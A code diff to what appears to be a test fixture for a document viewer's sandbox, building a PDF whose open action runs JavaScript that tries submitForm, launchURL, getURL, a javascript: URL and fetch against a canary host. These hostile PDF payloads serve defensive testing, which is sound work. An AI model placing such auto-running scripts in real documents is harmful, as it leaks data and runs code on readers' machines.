@@ -58,11 +58,24 @@ ${page('mhtml')}
 --x--
 `
 
-/** Its scripts would run in the viewer, which has an origin of its own. */
+/** What it says when all its attempts are over: its script runs in the viewer, which has an origin of its own. */
+export const SAID_BY_PDF = 'from inside the viewer'
+
+const IN_PDF = [
+  `this.submitForm({cURL: "${CANARY}/submit-pdf", cSubmitAs: "HTML"})`,
+  `app.launchURL("${CANARY}/launch-pdf")`,
+  `this.getURL("${CANARY}/get-pdf")`,
+  `this.getURL(${JSON.stringify(`javascript:${script('pdf')}`)})`,
+  `document.title = "hostile"`,
+  `fetch("${CANARY}/fetch-pdf")`,
+]
+  .map((attempt) => `try { ${attempt} } catch (e) {}`)
+  .concat(`app.alert("${SAID_BY_PDF}")`)
+  .join(';')
+
 const SCRIPTED_PDF = pdfOf(
-  'Venlig',
-  `/OpenAction<</S/JavaScript/JS(try{this.submitForm({cURL:"${CANARY}/submit-pdf",cSubmitAs:"HTML"})}catch(e){};` +
-    `try{app.launchURL("${CANARY}/launch-pdf")}catch(e){};try{this.getURL("javascript:${script('pdf').replaceAll("'", '\\x27').replaceAll('(', '\\050').replaceAll(')', '\\051')}")}catch(e){})>>`,
+  'Kontrakt',
+  `/OpenAction<</S/JavaScript/JS(${IN_PDF.replaceAll(/[\\()]/g, (sign) => `\\${sign}`)})>>`,
 )
 
 export const HOSTILE: Record<string, TestFile> = {
